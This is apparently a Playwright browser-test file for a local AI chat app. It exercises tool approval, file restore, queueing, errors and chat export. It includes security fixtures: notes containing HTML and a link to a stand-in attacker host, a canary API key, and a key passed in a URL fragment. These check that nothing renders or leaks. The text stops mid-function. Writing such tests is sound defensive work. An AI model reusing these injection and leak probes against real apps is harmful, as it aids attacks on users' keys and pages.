// The web app through the real `palaver serve` on a temporary workspace, with the provider double
// and an attacker server (issue 7's list): a newcomer's path, a tool turn with approval and
// rejection, stop / queue / regenerate / edit-and-resend / branch, a draft across reloads, hostile
// model output, the CSP and Trusted Types (C11, C18, C19), key handling (C13-C17), two tabs on one
// chat, and the offline app shell.
// node tests/browser/app.mjs   (after build_pkg and `cargo build`; uses /usr/bin/chromium)
import { createServer } from 'node:http';
import { readFile, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import {
  check, failed, watchdog, startDouble, startServe, startAttacker, launch, tempDir, cleanup,
  openaiStream, setProvider, sendAndWait, waitIdle, openChatId, openChat, importFile, chatMenu,
} from './harness.mjs';
import { inThemes } from './axe.mjs';
import { person } from './person.mjs';

watchdog(480, 'the app test'); // a guard against a hang: the sections take about 4–5 minutes on 2 cores
const CANARY = 'sk-test-CANARY';
const workspace = await tempDir('palaver-ws-');
const ORIGINAL = '# original notes <b>bold</b> **strong** [link](https://attacker.test/c9)\n';
await writeFile(join(workspace, 'notes.txt'), ORIGINAL);
const double = await startDouble();
const attacker = await startAttacker();
let serve = await startServe(workspace);
const profile = await tempDir('palaver-app-');
const context = await launch(profile, { attackerPort: attacker.port });
const requests = [];
context.on('request', (request) => requests.push(request));
const consoleLines = [];
const pageErrors = [];

async function newPage() {
  const page = await context.newPage();
  page.on('console', (m) => consoleLines.push(m.text()));
  page.on('pageerror', (e) => pageErrors.push(e.message));
  return page;
}

const chatCount = (page) => page.locator('[data-testid=chat-item]').count();
const assistantTexts = (page) => page.locator('[data-testid=message][data-role=assistant]:not([data-streaming])').allTextContents();

async function newcomer(page) {
  const engineFetches = [];
  page.on('request', (r) => r.url().endsWith('/palaver_bg.wasm') && engineFetches.push(r.url()));
  const hasDatabase = () => page.evaluate(async () => (await indexedDB.databases()).some((d) => d.name === 'palaver'));
  await page.goto(serve.printed);
  const cleared = await page.waitForURL((url) => !url.href.includes('token='), { timeout: 5_000 }).then(() => true, () => false);
  check(cleared, 'the pairing token left the address bar');
  const response = await page.reload();
  // Issue 20: a first visit is drawn without the engine (nothing stored, nothing to sync).
  await person(page).see('connect-provider');
  check(engineFetches.length === 0 && await page.isVisible('[data-testid=tools-status]') === false,
    `a first visit draws the first-run offer without fetching the engine (${engineFetches.length} fetches)`);
  await page.press('[data-testid=composer]', 'a');
  await page.waitForFunction(() => document.getElementById('engine-version').textContent.length > 0);
  check(engineFetches.length === 1 && !(await hasDatabase()), `a first key press fetches the engine ahead, opening nothing (${engineFetches.length} fetch, no database)`);
  await page.fill('[data-testid=composer]', '');
  // A second tab on the first visit: it learns of the first chat stored in the other one.
  const second = await newPage();
  await second.goto(`${serve.origin}/`);
  const csp = response.headers()['content-security-policy'] ?? '';
  check(csp.includes("frame-ancestors 'none'") && csp.includes("require-trusted-types-for 'script'"), 'C18: the page comes with its CSP header');
  // The first answer streams for about two seconds (the recorded bytes, in pieces).
  const firstUrl = await double.script('first', [{ wire: 'openai-chat/text_gpt4o', chunk_bytes: 600, delay_ms: 150 }]);
  await setProvider(page, { baseUrl: firstUrl, key: CANARY });
  await person(page).send('Hello there');
  // Issue 41: the offline cache is stored after the first answer, not while a person waits for it.
  await page.locator('[data-testid=message][data-role=assistant][data-streaming]').filter({ hasText: /\w/ }).first().waitFor({ timeout: 15_000 });
  const workerWhileAnswering = await page.evaluate(async () => Boolean(await navigator.serviceWorker.getRegistration()));
  await waitIdle(page, 1);
  const offlineAfter = await person(page).see('offline-ready', 20_000).then(() => true, () => false);
  check(!workerWhileAnswering && offlineAfter, `a first visit stores the offline cache after its first answer (a worker while it streamed: ${workerWhileAnswering}; "works offline" after it: ${offlineAfter})`);
  await second.waitForSelector('[data-testid=chat-item]', { timeout: 10_000 }).catch(() => null);
  check(await second.locator('[data-testid=chat-item]').count() === 1, 'a second tab of the first visit lists the chat the first one stored');
  await second.close();
  const [reply] = await assistantTexts(page);
  check(reply.trim().length > 10, `the reply streamed in (${JSON.stringify(reply.slice(0, 50))}…)`);
  check(await page.getAttribute('[data-testid=turn-phase]', 'data-phase') === 'done', 'the turn ends in phase done');
  const usage = await page.getAttribute('[data-testid=context-usage]', 'data-estimated');
  check(Number(usage) > 0, `the context gauge shows an estimate (${usage} tokens)`);
  // What a person reads: counts with thousands separators, the time a message was sent on hover.
  const gauge = await page.locator('[data-testid=context-usage] span').first().textContent();
  check(/^≈ \d{1,3}(,\d{3})* of \d{1,3}(,\d{3})+ tokens/.test(gauge), `the gauge reads as a person writes counts (${gauge})`);
  const sentAt = await page.locator('[data-testid=message][data-role=user]').first().getAttribute('title');
  const today = await page.evaluate(() => { const d = new Date(); return `${d.getFullYear()}-${String(d.getMonth() + 1).padStart(2, '0')}-${String(d.getDate()).padStart(2, '0')}`; });
  check(new RegExp(`^${today} \\d\\d:\\d\\d$`).test(sentAt ?? ''), `hovering the message shows when it was sent (${sentAt})`);
  await page.waitForTimeout(300);
  const before = engineFetches.length;
  const toolLists = () => requests.filter((r) => r.method() === 'GET' && new URL(r.url()).pathname === '/api/tools').length;
  const listsBefore = toolLists();
  await page.reload();
  await person(page).see('chat-item');
  check(engineFetches.length === before + 1 && await hasDatabase(), 'with chats stored, the engine opens at the start');
  await page.waitForTimeout(1000); // the MCP events stream's first event comes, which says the same tools version
  check(toolLists() === listsBefore + 1, `a start lists the workspace tools once (${toolLists() - listsBefore} requests)`);
  await page.click('[data-testid=chat-item]');
  await page.waitForSelector('[data-testid=message][data-role=assistant]');
  check((await assistantTexts(page))[0] === reply, 'after a reload the chat is there, byte for byte');
  check((await page.textContent('[data-testid=message][data-role=user] .text')) === 'Hello there', 'the user message too');
}

async function fragmentPrefill(page) {
  await page.goto('about:blank');
  await page.goto(`${serve.origin}/#provider=anthropic&base_url=${encodeURIComponent('http://127.0.0.1:9/v1')}&model=claude-test&key=sk-leak`);
  const cleared = await page.waitForURL((url) => !url.href.includes('#'), { timeout: 5_000 }).then(() => true, () => false);
  check(cleared, 'the settings fragment left the address bar');
  await person(page).openSettings('provider');
  const values = await page.evaluate(() => ['provider-kind', 'provider-base-url', 'provider-model', 'provider-key'].map((id) => document.getElementById(id).value));
  check(values[0] === 'anthropic' && values[1] === 'http://127.0.0.1:9/v1' && values[2] === 'claude-test' && values[3] === '',
    `#provider=…&base_url=…&model=… pre-fills the settings, never a key (${values.join(', ')})`);
  await page.click('[data-testid=cancel-settings]');
  // Broken stored settings (hand-edited, another build) start the app with defaults, not a crash.
  const kept = await page.evaluate(() => localStorage.getItem('palaver.settings'));
  for (const broken of ['{broken', '[1,2]', '"text"', '{"kind":"nope","providers":7}']) {
    await page.evaluate((value) => localStorage.setItem('palaver.settings', value), broken);
    await page.reload();
    await person(page).openSettings('provider');
    const kind = await page.inputValue('[data-testid=provider-kind]');
    await page.click('[data-testid=cancel-settings]');
    check(kind === 'openai-chat', `stored settings ${broken} → defaults, the app starts`);
  }
  await page.evaluate((value) => localStorage.setItem('palaver.settings', value), kept);
  await page.reload();
}

async function scriptedProvider(page, id, responses) {
  const url = await double.script(id, responses);
  await setProvider(page, { baseUrl: url, key: CANARY });
  return url;
}

async function toolTurns(page) {
  await page.click('[data-testid=new-chat]');
  const calls = (n) => [
    { body: openaiStream({ text: 'Let me look.', toolCalls: [{ id: `call_read_${n}`, name: 'read_file', args: { path: 'notes.txt' } }] }) },
    { body: openaiStream({ toolCalls: [{ id: `call_write_${n}`, name: 'write_file', args: { path: 'notes.txt', content: `changed by the model ${n}\n` } }] }) },
    { body: openaiStream({ text: 'I updated notes.txt.' }) },
  ];
  await scriptedProvider(page, 'tools-approve', calls(1));
  await page.fill('[data-testid=composer]', 'Update my notes');
  await page.click('[data-testid=send]');
  await page.waitForSelector('[data-testid=tool-approval]', { timeout: 15_000 });
  check(await page.locator('[data-testid=tool-call][data-tool=read_file][data-status=done]').count() === 1, 'read_file ran on its own (auto) and its result is shown');
  check((await page.textContent('[data-testid=tool-result]')).includes(ORIGINAL.trim()), 'the read result is the file on disk');
  check(await page.locator('[data-testid=tool-result] *').count() === 0, 'C9: shown as plain text (its Markdown and HTML are not rendered)');
  check(await page.getAttribute('[data-testid=turn-phase]', 'data-phase') === 'working', 'the turn is in phase working while it waits');
  check((await readFile(join(workspace, 'notes.txt'), 'utf8')) === ORIGINAL, 'nothing is written before the approval');
  // The card shows what the write would change in the file as it is now.
  await page.getByTestId('approval-diff').filter({ hasText: 'lines' }).waitFor({ timeout: 10_000 }).catch(() => {});
  const diff = await page.getByTestId('approval-diff').innerText().catch(() => '');
  check(diff.includes(`-${ORIGINAL.split('\n')[0]}`) && diff.includes('+changed by the model 1') && /notes\.txt: \+1 −\d+ lines/.test(diff),
    `the approval card shows the diff of the write against the file on disk (${diff.slice(0, 160).replace(/\n/g, ' | ')})`);
  await inThemes(page, 'a write waiting for approval, with its diff', 'approval-diff');
  await page.click('[data-testid=approve]');
  await waitIdle(page, 2);
  check((await readFile(join(workspace, 'notes.txt'), 'utf8')) === 'changed by the model 1\n', 'approve → the file changed on disk');
  check((await assistantTexts(page)).at(-1).includes('I updated notes.txt.'), 'the turn went on to the final answer');
  await restoreTheWrite(page);

  await writeFile(join(workspace, 'notes.txt'), ORIGINAL);
  await page.click('[data-testid=new-chat]');
  // The write comes slowly: meanwhile the person edits the file the model has read.
  const slowWrite = calls(2);
  slowWrite[1] = { ...slowWrite[1], chunk_bytes: 40, delay_ms: 150 };
  await scriptedProvider(page, 'tools-reject', slowWrite);
  await page.fill('[data-testid=composer]', 'Update my notes again');
  await page.click('[data-testid=send]');
  await page.locator('[data-testid=tool-call][data-tool=read_file][data-status=done]').waitFor({ state: 'attached', timeout: 15_000 });
  await writeFile(join(workspace, 'notes.txt'), `${ORIGINAL}edited by the person\n`);
  await page.waitForSelector('[data-testid=tool-approval]', { timeout: 15_000 });
  await page.getByTestId('changed-since-read').waitFor({ timeout: 10_000 }).catch(() => {});
  const warned = await page.getByTestId('changed-since-read').innerText().catch(() => '');
  check(/changed since the model read it/.test(warned), `the card says the file changed since the model read it (${warned})`);
  await writeFile(join(workspace, 'notes.txt'), ORIGINAL);
  await page.click('[data-testid=reject]');
  await page.locator('[data-testid=tool-call][data-tool=write_file]:not([data-status=awaiting_approval])').waitFor({ state: 'attached' });
  await page.getByTestId('send').waitFor();
  await page.waitForTimeout(300);
  check((await readFile(join(workspace, 'notes.txt'), 'utf8')) === ORIGINAL, 'reject → the file is unchanged');
  const log = await double.log('tools-reject');
  check(log.length === 2, `reject → the turn ends: no request after the rejection (${log.length} requests)`);
  check(await page.locator('[data-testid=tool-approval]').count() === 0, 'the approval card is gone');
  check(await page.locator('[data-testid=tool-call][data-tool=write_file][data-status=rejected]').count() === 1, 'the rejected call shows as rejected');
}

/**
 * Turned back (issue 39): the approved write's "Restore files to before this" puts notes.txt back
 * as palaver serve recorded it — but first the person edited it, so the restore asks; declined,
 * the file stays with a sentence saying why; accepted, the earlier content is back.
 */
async function restoreTheWrite(page) {
  const you = person(page);
  await page.getByTestId('change-report').waitFor({ timeout: 10_000 }).catch(() => {});
  const report = await page.getByTestId('change-report').innerText().catch(() => '');
  check(/^Changed 1 file: notes\.txt \+1 −\d+\.$/.test(report), `the turn says what it changed in the workspace (${report})`);
  const edited = 'changed by the model 1\nand then by me\n';
  await writeFile(join(workspace, 'notes.txt'), edited);
  await you.click(page.locator('[data-testid=tool-activity] summary').last());
  let asked = '';
  page.once('dialog', (dialog) => { asked = dialog.message(); dialog.dismiss(); });
  await you.click('restore-files');
  await page.getByTestId('status').filter({ hasText: /Left as they are/ }).waitFor({ timeout: 10_000 }).catch(() => {});
  const declined = await you.read('status');
  check(/notes\.txt changed since the agent wrote it/.test(asked) && /Left as they are: notes\.txt/.test(declined) && (await readFile(join(workspace, 'notes.txt'), 'utf8')) === edited,
    `a restore over the person's own edit asks first; declined, the file stays (${declined})`);
  page.once('dialog', (dialog) => dialog.accept());
  await you.click('restore-files');
  await page.getByTestId('status').filter({ hasText: /Restored to before this change/ }).waitFor({ timeout: 10_000 }).catch(() => {});
  const restored = await you.read('status');
  check(/Restored to before this change: notes\.txt/.test(restored) && (await readFile(join(workspace, 'notes.txt'), 'utf8')) === ORIGINAL,
    `accepted, the file is back as it was before the agent's write (${restored})`);
  if (process.env.PALAVER_SHOTS) await page.screenshot({ path: join(process.env.PALAVER_SHOTS, 'restore-files.png') });
  // Restore conversation: the chat goes back to before the turn, its question into the composer;
  // Undo puts every message back.
  const count = () => page.locator('[data-testid=message]').count();
  const before = await count();
  let cut = '';
  page.once('dialog', (dialog) => { cut = dialog.message(); dialog.accept(); });
  await you.click('restore-turn-chat');
  await page.getByTestId('status').filter({ hasText: /Conversation restored/ }).waitFor({ timeout: 10_000 }).catch(() => {});
  const left = await count();
  const question = await page.locator('[data-testid=message][data-role=user]').filter({ hasText: 'Update my notes' }).count();
  check(/Cut the conversation back to before “Update my notes”/.test(cut) && left < before && question === 0 && await page.inputValue('[data-testid=composer]') === 'Update my notes',
    `"Restore conversation" cuts the chat back to before the turn, its question in the composer (${before} → ${left} messages; asked: ${cut})`);
  await you.click('undo-restore-conversation');
  await page.waitForFunction((n) => document.querySelectorAll('[data-testid=message]').length === n, before, { timeout: 10_000 }).catch(() => {});
  check(await count() === before && (await assistantTexts(page)).at(-1).includes('I updated notes.txt.'), `Undo puts the conversation back (${await count()} messages)`);
  // The model hears which files went back, with the next message.
  await scriptedProvider(page, 'after-restore', [{ body: openaiStream({ text: 'I will read it again.' }) }]);
  await you.send('What changed?');
  await waitIdle(page, 3);
  const [next] = await double.log('after-restore');
  const sent = JSON.stringify(next?.body?.messages ?? []);
  check(/subkind=\\"files_restored\\"/.test(sent) && /The user restored notes\.txt/.test(sent),
    `the next request tells the model that notes.txt went back (${sent.match(/The user restored[^"\\]*/)?.[0] ?? 'not in the request'})`);
}

/**
 * "Revert one file" (issue 39): a turn that wrote two files; reverting one from the turn's report
 * puts that file back and leaves the other as the agent wrote it.
 */
async function revertOneFile(page) {
  const you = person(page);
  await writeFile(join(workspace, 'one.txt'), 'one before\n');
  await writeFile(join(workspace, 'two.txt'), 'two before\n');
  await you.click('new-chat');
  await scriptedProvider(page, 'revert-one', [
    { body: openaiStream({ toolCalls: [
      { id: 'call_w1', name: 'write_file', args: { path: 'one.txt', content: 'one by the agent\n' } },
      { id: 'call_w2', name: 'write_file', args: { path: 'two.txt', content: 'two by the agent\n' } },
    ] }) },
    { body: openaiStream({ text: 'Both written.' }) },
  ]);
  await you.send('Write both files');
  await you.click('approve');
  await waitIdle(page, 1);
  // Each file's diff is a click away in the report, and from the write's numbers in its row.
  await you.click(page.getByTestId('change-diffs').locator('summary'));
  await you.click(page.getByTestId('show-diff').filter({ hasText: 'one.txt' }));
  const diff = page.getByTestId('change-diff').first();
  await diff.filter({ hasText: '+one by the agent' }).waitFor({ timeout: 10_000 }).catch(() => {});
  const shown = await diff.textContent().catch(() => '');
  check(/-one before/.test(shown) && /\+one by the agent/.test(shown) && /one\.txt: \+1 −1 lines/.test(shown), `the report shows one.txt's diff: its line before removed, the agent's added (${JSON.stringify(shown)})`);
  await diff.scrollIntoViewIfNeeded().catch(() => {});
  await inThemes(page, "a turn's change report with a file's diff open", 'change-diff');
  await you.click(page.getByTestId('show-diff').filter({ hasText: 'one.txt' }));
  check(await page.getByTestId('change-report').locator('..').getByTestId('change-diff').count() === 0, 'a second click closes the diff');
  await you.click(page.getByTestId('tool-activity').last().locator('summary'));
  await you.click(page.getByTestId('change-stat').last());
  const rowDiff = await page.getByTestId('tool-call').last().getByTestId('change-diff').filter({ hasText: 'two by the agent' }).textContent({ timeout: 10_000 }).catch(() => '');
  check(/\+two by the agent/.test(rowDiff), `a write's numbers in its row open that call's diff (${JSON.stringify(rowDiff)})`);
  await you.click(page.getByTestId('revert-files').locator('summary'));
  await you.click(page.getByTestId('revert-file').filter({ hasText: 'one.txt' }));
  await page.getByTestId('status').filter({ hasText: /Restored to before this change: one\.txt/ }).waitFor({ timeout: 10_000 }).catch(() => {});
  const one = await readFile(join(workspace, 'one.txt'), 'utf8');
  const two = await readFile(join(workspace, 'two.txt'), 'utf8');
  check(one === 'one before\n' && two === 'two by the agent\n', `"Revert one.txt" puts that file back and leaves two.txt as the agent wrote it (${JSON.stringify([one, two])}; ${await you.read('status')})`);
}

const longText = Array.from({ length: 400 }, (_, i) => `word${i}`).join(' ');

async function stopQueueRegenerate(page) {
  await page.click('[data-testid=new-chat]');
  await scriptedProvider(page, 'stop', [
    { body: openaiStream({ text: longText, pieces: 400 }), chunk_bytes: 400, delay_ms: 40 },
    { body: openaiStream({ text: 'Second answer.' }) },
  ]);
  await page.fill('[data-testid=composer]', 'Tell me a long story');
  await page.click('[data-testid=send]');
  await page.waitForSelector('[data-testid=message][data-streaming=true]', { timeout: 10_000 });
  check(await page.isVisible('[data-testid=stop]') && !(await page.isVisible('[data-testid=send]')), 'while streaming, Send has become Stop');
  check(await page.getAttribute('[data-testid=turn-phase]', 'data-phase') === 'streaming', 'the turn is in phase streaming');
  await page.waitForTimeout(600);
  await page.click('[data-testid=stop]');
  await waitIdle(page, 1);
  const stopped = (await assistantTexts(page))[0];
  check(stopped.startsWith('word0 word1') && !stopped.includes('word399'), 'stop keeps the partial answer');
  check(await page.locator('[data-testid=marker-stopped]').count() === 1, 'with its stopped marker');

  // A message sent while busy is queued, shown, and runs next.
  await scriptedProvider(page, 'queue', [
    { body: openaiStream({ text: longText, pieces: 100 }), chunk_bytes: 600, delay_ms: 30 },
    { body: openaiStream({ text: 'Answer to the queued one.' }) },
    { body: openaiStream({ text: 'Regenerated answer.' }) },
    { body: openaiStream({ text: 'Answer to the edited question.' }) },
  ]);
  await page.fill('[data-testid=composer]', 'First question');
  await page.click('[data-testid=send]');
  await page.waitForSelector('[data-testid=message][data-streaming=true]', { timeout: 10_000 });
  await page.fill('[data-testid=composer]', 'Queued question');
  await page.click('[data-testid=send]');
  await page.waitForSelector('[data-testid=queue] [data-testid=queued]');
  check((await page.textContent('[data-testid=queue]')).includes('Queued question'), 'the message sent while busy shows as queued');
  await page.fill('[data-testid=composer]', 'Never mind this one');
  await page.click('[data-testid=send]');
  await page.waitForFunction(() => document.querySelectorAll('[data-testid=queued]').length === 2);
  await page.locator('[data-testid=queued]', { hasText: 'Never mind' }).locator('[data-testid=cancel-queued]').click();
  await page.waitForFunction(() => document.querySelectorAll('[data-testid=queued]').length === 1).catch(() => {});
  const left = await page.locator('[data-testid=queued] .preview').allTextContents();
  check(left.length === 1 && left[0] === 'Queued question', `a queued message can be cancelled (left: ${left.join('|')})`);
  await waitIdle(page, 3, 30_000);
  const users = await page.locator('[data-testid=message][data-role=user] .text').allTextContents();
  check(users.join('|') === 'Tell me a long story|First question|Queued question', `the queued message ran next; the cancelled one never did (${users.join('|')})`);
  check((await assistantTexts(page)).at(-1).includes('Answer to the queued one.'), 'and got its answer');

  await page.click('[data-testid=regenerate]');
  await page.waitForFunction(() => [...document.querySelectorAll('[data-testid=message][data-role=assistant]')].at(-1)?.textContent.includes('Regenerated answer.'), null, { timeout: 10_000 });
  await waitIdle(page, 3);
  check((await assistantTexts(page)).length === 3, 'regenerate replaces the last answer');

  const chatId = await openChatId(page);
  await page.locator('[data-testid=message][data-role=user]').nth(1).locator('[data-testid=edit]').click();
  await page.fill('[data-testid=edit-text]', 'First question, edited');
  await page.click('[data-testid=edit-send]');
  // A person reads the answer when it has come: the old one leaves first, then the new one streams.
  await page.waitForFunction(() => [...document.querySelectorAll('[data-testid=message][data-role=assistant]')].at(-1)?.textContent.includes('edited question'), null, { timeout: 10_000 }).catch(() => {});
  await waitIdle(page, 2);
  const afterEdit = await page.locator('[data-testid=message][data-role=user] .text').allTextContents();
  check(afterEdit.join('|') === 'Tell me a long story|First question, edited', `edit-and-resend replaces the history from there (${afterEdit.join('|')})`);
  const editedAnswer = (await assistantTexts(page)).at(-1);
  check(editedAnswer.includes('Answer to the edited question.'), `and the edited question is answered (${JSON.stringify(editedAnswer.slice(0, 60))}; ${(await double.log('queue')).length} requests)`);

  const before = await chatCount(page);
  await page.locator('[data-testid=message][data-role=assistant]').first().locator('[data-testid=branch]').click();
  await page.waitForFunction((id) => {
    const open = document.querySelector('[data-testid=chat-item][aria-current=true]')?.dataset.chatId;
    return open && open !== id && document.querySelectorAll('[data-testid=message]').length === 2;
  }, chatId);
  check(await chatCount(page) === before + 1, 'branch creates a new chat');
  const branched = await page.locator('[data-testid=message]').allTextContents();
  check(branched[0].includes('Tell me a long story') && branched[1].startsWith('word0'), 'holding the prefix up to the message');
  check((await page.textContent('[data-testid=chat-title]')).includes('(branch)'), 'named as a branch');
}

async function planAskAndSteer(page) {
  await page.click('[data-testid=new-chat]');
  await scriptedProvider(page, 'plan', [
    { body: openaiStream({ toolCalls: [{ id: 'call_plan', name: 'set_plan', args: { content: '1. Read the notes\n2. Rewrite them', summary: 'two steps' } }] }) },
    { body: openaiStream({ toolCalls: [{ id: 'call_upd', name: 'update_plan', args: { note: 'Step 1 done: notes read' } }] }) },
    { body: openaiStream({ text: 'One question first.', toolCalls: [{ id: 'call_ask', name: 'ask_questions', args: { questions: ['Which tone should the notes have?'] } }] }) },
    { body: openaiStream({ text: 'Formal it is.' }) },
  ]);
  await page.fill('[data-testid=composer]', 'Plan the rewrite');
  await page.click('[data-testid=send]');
  await page.waitForSelector('[data-testid=ask-user]', { timeout: 15_000 });
  check((await page.textContent('[data-testid=plan]')).includes('Rewrite them'), 'the plan block shows the plan');
  check((await page.textContent('[data-testid=plan-updates]')).includes('Step 1 done'), 'with its updates');
  check((await page.textContent('[data-testid=ask-user]')).includes('Which tone'), 'the ask-user card shows the question');
  await inThemes(page, 'a plan and a question waiting', 'question');
  check(await page.locator('[data-testid=regenerate]').count() === 0, 'while a question waits, the answer box is offered and Regenerate is not');
  // PALAVER_SHOTS=dir keeps a picture of the cards for a person to look at.
  if (process.env.PALAVER_SHOTS) await page.screenshot({ path: `${process.env.PALAVER_SHOTS}/plan-and-question.png`, fullPage: true });
  // Read in the next painted frame, as a person sees it: the window was just resized back
  // (inThemes), and the transcript follows its new size when that frame is laid out.
  const transcript = await page.evaluate(() => new Promise((done) => requestAnimationFrame(() => requestAnimationFrame(() => {
    const t = document.getElementById('transcript');
    done({ bottom: t.scrollHeight - t.scrollTop - t.clientHeight, text: t.innerText });
  }))));
  if (!(transcript.bottom < 2)) console.log('DIAG', await page.evaluate(() => { const t = document.getElementById('transcript'); return JSON.stringify({ sh: t.scrollHeight, st: t.scrollTop, ch: t.clientHeight, kids: [...t.children].map((c) => `${c.className || c.tagName}:${c.offsetHeight}`), vp: [innerWidth, innerHeight] }); }));
  check(transcript.bottom < 2 && transcript.text.includes('One question first.'), `a card that appears keeps the transcript at its end, where the question's text is (${transcript.bottom} px from the end)`);
  await page.fill('[data-testid=ask-user-answer]', 'Formal, please');
  await page.click('[data-testid=ask-user-send]');
  await waitIdle(page, 2);
  check(await page.locator('[data-testid=ask-user]').count() === 0, 'answering clears the card');
  check((await assistantTexts(page)).at(-1).includes('Formal it is.'), 'and the answer goes on the conversation');
  const cacheRead = await page.getAttribute('[data-testid=context-usage]', 'data-cache-read');
  check(cacheRead === '96', `the context gauge shows the cache hits from usage (${cacheRead} cached prompt tokens)`);
  const tiers = await page.textContent('[data-testid=context-tiers]');
  check(/^tiers: L0 [\d.]+k?( · L[123] [\d.]+k?)* · active [\d.]+k?/.test(tiers), `beside them, how the engine laid the last request out in stability tiers (${tiers})`);

  // Steer now: a queued message is re-sent with priority.
  await scriptedProvider(page, 'steer', [
    { body: openaiStream({ text: longText, pieces: 100 }), chunk_bytes: 300, delay_ms: 40 },
    { body: openaiStream({ text: 'Steered.' }) },
  ]);
  await page.fill('[data-testid=composer]', 'Go on');
  await page.click('[data-testid=send]');
  await page.waitForSelector('[data-testid=message][data-streaming=true]', { timeout: 10_000 });
  await page.fill('[data-testid=composer]', 'Shorter, please');
  await page.click('[data-testid=send]');
  await page.click('[data-testid=steer-now]');
  await page.waitForSelector('[data-testid=queued][data-priority=true]', { timeout: 5_000 }).catch(() => {});
  const queued = await page.evaluate(() => [...document.querySelectorAll('[data-testid=queued]')].map((q) => `${q.dataset.priority}:${q.querySelector('.preview').textContent}`));
  check(queued.join('|') === 'true:Shorter, please', `steer now turns the queued message into a priority one (${queued.join('|')})`);
  await waitIdle(page, 4, 30_000);
  const users = await page.locator('[data-testid=message][data-role=user] .text').allTextContents();
  check(users.at(-1) === 'Shorter, please' && users.filter((u) => u === 'Shorter, please').length === 1, `the steering message ran once (${users.join('|')})`);
}

async function errorAndRetry(page) {
  await page.click('[data-testid=new-chat]');
  await scriptedProvider(page, 'error', [
    { status: 401, body: JSON.stringify({ error: { message: 'Incorrect API key provided', type: 'invalid_request_error', code: 'invalid_api_key' } }) },
    { body: openaiStream({ text: 'Back on track.' }) },
  ]);
  await page.fill('[data-testid=composer]', 'Hello?');
  await page.click('[data-testid=send]');
  await page.waitForSelector('[data-testid=message][data-role=error]', { timeout: 10_000 });
  const said = await page.textContent('[data-testid=status]');
  check(said.startsWith('The provider refused the API key.') && said.includes('Incorrect API key'), `an auth error is a sentence that says what to fix, with the provider's words (${said})`);
  await inThemes(page, 'an error in the chat', 'error');
  await page.click('[data-testid=retry]');
  await waitIdle(page, 1);
  check((await assistantTexts(page))[0].includes('Back on track.'), 'retry from the error marker runs the turn again');
}

/** A person selects words of an earlier answer while the next one streams: the transcript drawn
 *  again as the answer lands keeps the selection (each message stays in place). */
async function selectionKept(page) {
  await page.click('[data-testid=new-chat]');
  await scriptedProvider(page, 'select', [
    { body: openaiStream({ text: 'Words a person copies.' }) },
    { body: openaiStream({ text: longText, pieces: 100 }), chunk_bytes: 300, delay_ms: 30 },
  ]);
  await person(page).send('First');
  await waitIdle(page, 1);
  await person(page).send('Second');
  await page.waitForSelector('[data-testid=message][data-streaming=true]', { timeout: 10_000 });
  await page.locator('[data-testid=message][data-role=assistant] p').first().click({ clickCount: 3 });
  const selected = await page.evaluate(() => getSelection().toString().trim());
  await waitIdle(page, 2, 30_000);
  const after = await page.evaluate(() => getSelection().toString().trim());
  check(selected === 'Words a person copies.' && after === selected, `a selection in an earlier answer outlives the next answer landing (${JSON.stringify(selected)} → ${JSON.stringify(after)})`);
}

async function exportImportDelete(page) {
  await chatMenu(page, 'rename-chat');
  await page.fill('[data-testid=rename-input]', 'Renamed chat ✓');
  await page.press('[data-testid=rename-input]', 'Enter');
  await page.waitForFunction(() => [...document.querySelectorAll('[data-testid=chat-item]')].some((c) => c.textContent === 'Renamed chat ✓'), null, { timeout: 5_000 }).catch(() => {});
  check((await page.textContent('[data-testid=chat-item][aria-current=true]')) === 'Renamed chat ✓', 'rename shows in the chat list');
  const title = await page.textContent('[data-testid=chat-title]');
  check(title === 'Renamed chat ✓', `and in the header (${title})`);
  const texts = await page.locator('[data-testid=message]').allTextContents();
  const [download] = await Promise.all([page.waitForEvent('download'), chatMenu(page, 'export-chat')]);
  const exported = await readFile(await download.path(), 'utf8');
  check(JSON.parse(exported).messages?.length > 0 && !exported.includes(CANARY), 'export gives the trajectory as JSON, without the key');
  const before = await chatCount(page);
  await importFile(page, exported);
  await page.waitForFunction((n) => document.querySelectorAll('[data-testid=chat-item]').length === n, before + 1);
  await page.waitForFunction((n) => document.querySelectorAll('[data-testid=message]').length === n, texts.length);
  check(JSON.stringify(await page.locator('[data-testid=message]').allTextContents()) === JSON.stringify(texts), 'import brings the same chat back as a new one');
  const [chooser] = await Promise.all([page.waitForEvent('filechooser'), page.click('[data-testid=import-chat]')]);
  await chooser.setFiles({ name: 'broken.json', mimeType: 'application/json', buffer: Buffer.from('{"messages": [{"role": 7}]') });
  await page.waitForFunction(() => document.getElementById('status').textContent.includes('Import failed'));
  check(await chatCount(page) === before + 1, 'a malformed file is refused with a message, nothing else changes');
  await chatMenu(page, 'delete-chat');
  await page.waitForFunction((n) => document.querySelectorAll('[data-testid=chat-item]').length === n, before);
  // Words written with no chat open go into the chat opened next, not replaced by its draft.
  await person(page).type('composer', 'written with no chat open');
  await page.click('[data-testid=undo-delete]');
  await page.waitForFunction((n) => document.querySelectorAll('[data-testid=chat-item]').length === n, before + 1);
  // The list shows the restored chat a moment before it opens in the transcript.
  await page.waitForFunction((t) => document.getElementById('chat-title').textContent === t, title, { timeout: 5_000 }).catch(() => {});
  const restoredTitle = await page.textContent('[data-testid=chat-title]');
  check(restoredTitle === title, `delete, then undo, brings the chat back (${restoredTitle} vs ${title})`);
  const words = await page.inputValue('[data-testid=composer]');
  check(words === 'written with no chat open', `words written with no chat open stay in the composer when a chat opens (${JSON.stringify(words)})`);
  await page.reload();
  await page.waitForFunction(() => document.getElementById('composer').value.length > 0, null, { timeout: 10_000 }).catch(() => {});
  const again = await page.inputValue('[data-testid=composer]');
  check(again === 'written with no chat open', `after a reload they are that chat's draft, once (${JSON.stringify(again)})`);
  await page.fill('[data-testid=composer]', '');
  await page.fill('[data-testid=chat-search]', title.slice(0, 12));
  const found = await page.locator('[data-testid=chat-item]').allTextContents();
  check(found.length >= 1 && found.every((t) => t.toLowerCase().includes(title.slice(0, 12).toLowerCase())), `search filters the chat list (${found.length} found)`);
  await page.fill('[data-testid=chat-search]', '');
}

/** The open chat is `id` and at least `least` messages show: what a person sees after a click. */
async function showing(page, id, least = 1, timeout = 15_000) {
  await page.waitForFunction(([chat, n]) => document.querySelector('[data-testid=chat-item][aria-current=true]')?.dataset.chatId === chat
    && document.querySelectorAll('[data-testid=message]').length >= n, [id, least], { timeout });
}

async function b22Navigation(page) {
  const other = await openChatId(page);
  await page.click('[data-testid=new-chat]');
